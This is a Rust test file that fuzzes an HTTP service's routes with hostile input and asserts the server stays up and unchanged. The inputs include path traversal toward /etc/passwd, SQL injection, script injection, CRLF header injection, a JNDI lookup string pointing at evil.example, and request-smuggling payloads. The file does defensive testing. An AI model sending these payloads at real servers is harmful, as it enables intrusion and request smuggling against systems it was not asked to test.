//! Hostile requests at every route: none of them changes anything, stops the server, or gets an answer that is not
//! HTTP.

use crate::site::{Site, raw};

/// Every route, with a method that it has.
const ROUTES: [(&str, &str); 27] = [
    ("GET", "/"),
    ("GET", "/login"),
    ("POST", "/login"),
    ("GET", "/ui/services"),
    ("GET", "/ui/services/steady"),
    ("POST", "/ui/services/steady/commands"),
    ("POST", "/ui/services/steady/overrides"),
    ("GET", "/ui/work"),
    ("GET", "/ui/replicas"),
    ("GET", "/ui/audit"),
    ("GET", "/assets/admin.css"),
    ("GET", "/health/live"),
    ("GET", "/health/ready"),
    ("GET", "/services"),
    ("GET", "/services/steady"),
    ("GET", "/services/steady/runs"),
    ("GET", "/services/steady/explain"),
    ("GET", "/services/steady/overrides"),
    ("PUT", "/services/steady/overrides/interval"),
    ("DELETE", "/services/steady/overrides/interval"),
    ("POST", "/services/steady/pause"),
    ("GET", "/work"),
    ("POST", "/work/orders/retry"),
    ("GET", "/replicas"),
    ("GET", "/audit"),
    ("GET", "/metrics"),
    ("GET", "/openapi.json"),
];

/// Parts of a path or a query that confuse programs.
const PARTS: [&str; 14] = [
    "..%2f..%2fetc%2fpasswd",
    "%00",
    "%ff%fe",
    "%",
    "'%20OR%201=1--",
    "<script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%0d%0aSet-Cookie:%20a=b",
    "${jndi:ldap://evil.example}",
    "{{7*7}}",
    "%F0%9F%92%A9",
    "-1",
    "18446744073709551616",
    "NaN",
];

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_requests_at_every_route_do_no_harm() {
    let site = Site::start().await;
    site.runs("steady", 1).await;
    let host = site.address;
    let large = "a".repeat(65 * 1024);
    for (method, path) in ROUTES {
        let mut requests = vec![
            // Larger than the limit, with and without its length.
            format!(
                "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\nContent-Length: {}\r\n\r\n{large}",
                large.len()
            ),
            format!(
                "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\nTransfer-Encoding: chunked\r\n\r\n{:x}\r\n{large}\r\n0\r\n\r\n",
                large.len()
            ),
            // Two lengths, a length that is none, and a smuggled request.
            format!("{method} {path} HTTP/1.1\r\nHost: {host}\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab"),
            format!("{method} {path} HTTP/1.1\r\nHost: {host}\r\nContent-Length: -1\r\n\r\n"),
            format!(
                "{method} {path} HTTP/1.1\r\nHost: {host}\r\nOrigin: null\r\nConnection: close\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nPOST /services/steady/pause HTTP/1.1\r\nHost: evil.example\r\n\r\n"
            ),
            // Headers that are too many, too long, or none.
            format!("{method} {path} HTTP/1.1\r\nHost: {host}\r\n{}\r\n", "X: y\r\n".repeat(200)),
            format!("{method} {path} HTTP/1.1\r\nHost: {host}\r\nX: {large}\r\n\r\n"),
            format!("{method} {path} HTTP/1.1\r\nHost: {host}\r\nno header\r\n\r\n"),
            format!("{method} {path}?{large} HTTP/1.1\r\nHost: {host}\r\n\r\n"),
            // Other versions and methods.
            format!("{method} {path}\r\n\r\n"),
            format!("{method} {path} HTTP/9.9\r\nHost: {host}\r\n\r\n"),
            format!("BREW {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"),
            format!("CONNECT {host} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"),
            format!("TRACE {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"),
        ];
        for body in ["\0\0\0", "{\"by\":", "[[[[[[[[", "{\"value\": 1e999}", "\u{feff}{}", "value=1&value=2", "<xml/>"]
        {
            for kind in ["application/json", "application/x-www-form-urlencoded", "text/xml", "\t"] {
                requests.push(format!(
                    "{method} {path} HTTP/1.1\r\nHost: {host}\r\nOrigin: http://evil.example\r\nConnection: close\r\nContent-Type: {kind}\r\nContent-Length: {}\r\n\r\n{body}",
                    body.len()
                ));
            }
        }
        for part in PARTS {
            let last = path.rfind('/').unwrap();
            for target in [
                format!("{}/{part}", &path[..last]),
                format!("{path}/{part}"),
                format!("{path}?limit={part}&service={part}&before={part}"),
            ] {
                requests.push(format!("GET {target} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"));
            }
        }
        for request in requests {
            let answer = raw(site.address, request.as_bytes()).await;
            let shown = &request[..request.len().min(120)];
            assert!(answer.status == 0 || (200..500).contains(&answer.status), "{shown:?}: {answer:?}");
            let is_page = answer.header("content-type").is_some_and(|kind| kind.starts_with("text/html"));
            assert!(!is_page || !answer.body.contains("<script>"), "{shown:?}: {answer:?}");
            assert_eq!(answer.header("set-cookie"), None, "{shown:?}");
        }
    }
    // Deeply nested JSON, and bytes that are no text.
    let nested = format!("{{\"by\": {}", "[".repeat(60_000));
    assert!(matches!(site.post("/services/steady/pause", &nested).await.status, 400 | 422));
    for bytes in [
        &b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"[..],
        b"\xff\xff\xff\xff\r\n\r\n",
        b"\r\n\r\n\r\n\r\n",
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    ] {
        let answer = raw(site.address, bytes).await;
        assert!(answer.status == 0 || (400..=505).contains(&answer.status), "{bytes:?}: {answer:?}");
    }
    let health = site.services.get("steady").unwrap().health();
    assert!(health.running && !health.paused);
    assert_eq!(site.get("/audit").await.json().as_array().unwrap().len(), 0);
    assert_eq!(site.get("/health/live").await.status, 200);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_body_over_64_kib_is_refused_with_413() {
    let site = Site::start().await;
    let (small, large) = (" ".repeat(64 * 1024), " ".repeat(64 * 1024 + 1));
    assert_eq!(site.post("/services/steady/wake", &small).await.status, 200);
    assert_eq!(site.post("/services/steady/wake", &large).await.status, 413);
    let chunked = format!(
        "POST /services/steady/wake HTTP/1.1\r\nHost: {}\r\nConnection: close\r\nTransfer-Encoding: chunked\r\n\r\n{:x}\r\n{large}\r\n0\r\n\r\n",
        site.address,
        large.len()
    );
    assert_eq!(raw(site.address, chunked.as_bytes()).await.status, 413);
    assert_eq!(site.send("GET", "/services", &[], &large).await.status, 413);
}
